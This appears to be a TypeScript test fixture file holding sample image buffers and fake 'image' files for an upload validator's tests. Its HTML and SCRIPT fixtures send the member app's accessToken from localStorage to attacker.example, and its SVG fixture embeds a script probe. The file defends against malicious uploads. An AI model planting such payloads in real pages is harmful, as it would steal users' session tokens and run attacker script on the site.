import { readFileSync } from 'node:fs';

/** Real image files of each type the media folders take, and files posing as images. */
const fromProject = (file: string) => readFileSync(new URL(`../../${file}`, import.meta.url));

/** A 1×1 grey PNG. */
export const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);
/** A 1×1 transparent GIF. */
export const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
/** The site's social preview image. */
export const JPEG = fromProject('site/public/images/social.jpg');
/** An article cover. */
export const WEBP = fromProject('site/public/images/articles/how_the_otc_market_works.webp');
/** The start of an AVIF file: its ftyp box (major brand avif). */
export const AVIF = Buffer.concat([
  Buffer.from([0, 0, 0, 0x1c]),
  Buffer.from('ftypavif\0\0\0\0avifmif1miaf', 'latin1'),
]);

/** A page that reads the member app's token: what must never be published on the site's origin. */
export const HTML = Buffer.from(
  '<!doctype html><script>fetch("https://attacker.example/?t="+localStorage.getItem("accessToken"))</script>\n',
);
export const SCRIPT = Buffer.from(
  'fetch("https://attacker.example/?t="+localStorage.getItem("accessToken"));\n',
);
export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n',
);
